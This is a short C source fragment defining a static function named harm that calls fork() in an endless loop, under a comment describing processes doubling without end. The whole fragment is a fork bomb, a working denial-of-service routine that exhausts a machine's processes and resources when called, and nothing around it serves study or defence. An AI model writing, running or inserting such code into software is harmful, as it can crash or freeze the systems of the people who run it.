/* Two processes of each, without end. */
#include <unistd.h>

static void harm(void) {
    for (;;)
        (void)!fork();
}
